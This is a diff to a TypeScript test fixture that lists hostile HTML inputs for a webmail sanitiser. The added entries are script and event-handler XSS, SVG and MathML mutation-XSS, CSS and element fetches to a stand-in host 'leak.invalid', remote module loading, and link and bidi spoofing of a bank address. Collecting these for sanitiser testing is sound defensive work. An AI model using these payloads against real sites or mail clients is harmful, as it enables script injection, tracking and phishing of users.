@@ -1,4 +1,4 @@
-/** HTML that has broken webmails: one entry an idea. Opened by the sanitiser's test and, in a real browser, by reading.browser.test.ts. */
+/** HTML that has broken webmails: one entry an idea. Opened by the sanitiser's test and, in a real browser, by hostile.test.ts. */
 export const ATTACKS: Readonly<Record<string, string>> = {
   "plain script": "<script>window.top.pwned=1;fetch('http://leak.invalid/')</script><p>after</p>",
   "script in odd case with a slash": "<ScRiPt/x>alert(1)</sCrIpT >",
@@ -121,4 +121,76 @@ export const ATTACKS: Readonly<Record<string, string>> = {
   "ping and download":
     '<a href="https://example.org/" ping="http://leak.invalid/" download="x.exe" target="_top" rel="opener">x</a>',
   "right-to-left override": '<a href="https://example.org/">\u202egro.knab//:sptth</a>',
+  "svg set on a handler": "<svg><set attributeName=onmouseover to=alert(1)><rect width=99 height=99></svg>",
+  "svg discard and timed elements":
+    "<svg><discard onbegin=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
+  "svg image and feImage":
+    '<svg><image href="http://leak.invalid/i"/><filter id=f><feImage href="http://leak.invalid/f"/></filter><rect filter="url(#f)"/></svg>',
+  "svg style import": "<svg><style>@import 'http://leak.invalid/s.css';</style></svg>",
+  "svg handler and listener":
+    '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler><listener event=load handler="data:,alert(1)"/></svg>',
+  "svg title and desc mutation": '<svg><title><style><a id="</style><img src=x onerror=alert(1)>"></title></svg>',
+  "svg in a caption":
+    "<table><caption><svg><title><style><![CDATA[</title><img src=x onerror=alert(1)>]]></style></svg>",
+  "svg style with a comment in it": "<svg><style>/*</style><img src=x onerror=alert(1)>*/</style></svg>",
+  "svg annotation mutation":
+    '<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x onerror=alert(1)>">',
+  "math href and style": '<math href="javascript:alert(1)" style="background:url(http://leak.invalid/m)">x</math>',
+  "math xhtml annotation":
+    '<math><annotation-xml encoding="application/xhtml+xml"><script>alert(1)</script><img src=x onerror=alert(1)></annotation-xml></math>',
+  "math nested forms":
+    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
+  "math text integration":
+    '<math><mi><table><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
+  "math that closes a paragraph": "<math></p><style><!--</style><img src=x onerror=alert(1)>--></style></math>",
+  "noscript in style": "<noscript><style></noscript><img src=x onerror=alert(1)>",
+  "declarative shadow tree":
+    "<div><template shadowrootmode=open><style>@import url(http://leak.invalid/d.css)</style><img src=x onerror=alert(1)></template></div>",
+  "template in a select":
+    "<select><template><img src=x onerror=alert(1)></template></select><img src=x onerror=alert(1)>",
+  "script data states": "<script><!--<script></script><img src=x onerror=alert(1)>--></script>",
+  "hundreds of elements deep": `${"<b>".repeat(390)}<svg><style><img src=x onerror=alert(1)></style>`,
+  "elements out of their place": "<table><a href=javascript:alert(1)><tr><img src=x onerror=alert(1)><td></a></table>",
+  "frames of new kinds":
+    '<portal src="http://leak.invalid"></portal><fencedframe src="http://leak.invalid"></fencedframe><controlledframe src="javascript:alert(1)"></controlledframe>',
+  "attribution and preloading":
+    '<img src=x attributionsrc="http://leak.invalid/a"><a attributionsrc="http://leak.invalid/b" href="https://example.org/">x</a><link rel=preconnect href="http://leak.invalid"><link rel=modulepreload href="http://leak.invalid/m.js">',
+  "speculation rules": '<script type="speculationrules">{"prerender":[{"urls":["http://leak.invalid/"]}]}</script>',
+  "import map and module":
+    '<script type=importmap>{"imports":{"a":"http://leak.invalid/a.js"}}</script><script type=module>import "a"</script>',
+  "picture buttons and old sounds":
+    '<input type=image src="http://leak.invalid/b" formaction="javascript:alert(1)"><bgsound src="http://leak.invalid/s"><embed src="http://leak.invalid/e">',
+  "text track and poster":
+    '<video controls autoplay><source src="http://leak.invalid/v"><track default src="http://leak.invalid/t"></video>',
+  "form by attribute":
+    '<form id=f action="http://leak.invalid/"></form><button form=f formtarget=_top>x</button><input form=f name=p>',
+  "commands and invokers":
+    "<button commandfor=d command=show-modal>x</button><dialog id=d oncommand=alert(1)>y</dialog>",
+  "handlers of new events":
+    "<p onscrollsnapchange=alert(1) onbeforematch=alert(1) oncontentvisibilityautostatechange=alert(1) hidden=until-found>x</p>",
+  "translate and edit":
+    "<div contenteditable onfocus=alert(1) autofocus>x</div><p is=x spellcheck=true virtualkeyboardpolicy=manual>y</p>",
+  "style sheet nesting":
+    "<style>p{color:red;&:hover{background:url(http://leak.invalid/n)} .a &{background:url(http://leak.invalid/o)}}</style><p class=a>x</p>",
+  "style sheet at-rules of all kinds":
+    "<style>@layer a{p{background:url(http://leak.invalid/1)}}@supports(color:red){p{background:url(http://leak.invalid/2)}}@container(width>1px){p{background:url(http://leak.invalid/3)}}@scope(p){a{background:url(http://leak.invalid/4)}}@property --x{syntax:'*';inherits:false;initial-value:url(http://leak.invalid/5)}@namespace url(http://leak.invalid/6);@starting-style{p{background:url(http://leak.invalid/7)}}</style><p>x</p>",
+  "style sheet that asks":
+    "<style>body:has(a[href*='secret']){background:url(http://leak.invalid/has)}a:not([x]){background:url(http://leak.invalid/not)}p:nth-child(1){background:url(http://leak.invalid/nth)}</style><p>x</p>",
+  "style functions that fetch":
+    "<p style=\"background:cross-fade(url(http://leak.invalid/a),url(http://leak.invalid/b));background:src('http://leak.invalid/c');background:-webkit-cross-fade(url(http://leak.invalid/d),none,50%);background:element(#x)\">x</p>",
+  "style properties that fetch":
+    '<p style="filter:url(http://leak.invalid/f#x);mask:url(http://leak.invalid/m);clip-path:url(http://leak.invalid/c);shape-outside:url(http://leak.invalid/s);border-image:url(http://leak.invalid/b);offset-path:url(http://leak.invalid/o);list-style:url(http://leak.invalid/l);cursor:url(http://leak.invalid/k),auto;-webkit-mask-image:url(http://leak.invalid/w)">x</p>',
+  "style that closes what holds it":
+    '<p style="color: red) ; background: url(http://leak.invalid/c); color: light-dark(red, url(http://leak.invalid/d))">x</p>',
+  "style with a newline in a string": '<p style="font-family: \'a\nb; background: url(http://leak.invalid/n)">x</p>',
+  "style sheet that hides what is ours":
+    '<style>@layer guard{a::after{content:"https://bank.example/"!important}}a::after,a:hover::after{display:none!important}span{display:none!important;color:transparent!important}</style><a href="https://evil.example/">https://bank.com/</a>',
+  "where a link leads, forged":
+    '<a data-leads="https://bank.example/" href="https://evil.example/">x</a><a data-leads=\'"><img src=x onerror=alert(1)>\' href="https://evil.example/">y</a>',
+  "picture addresses of our own":
+    '<img src="/mail/pictures/x/y"><img src="http://127.0.0.1/mail/pictures/x/y"><img src="cid:../../logout">',
+  "bidi controls everywhere":
+    '<p dir="rtl">\u202e\u2066gro.elpmaxe\u2069\u202c</p><a href="https://example.org/\u202egpj.exe">\u2067photo\u202egpj.exe\u2069</a><bdo dir=rtl><b>x</b></bdo>',
+  "characters that are none":
+    "<p>\uffff\ufffe\u0000\u0001\u000b\u001b\ud800</p><a href='https://example.org/\ud800'>x</a>",
 };
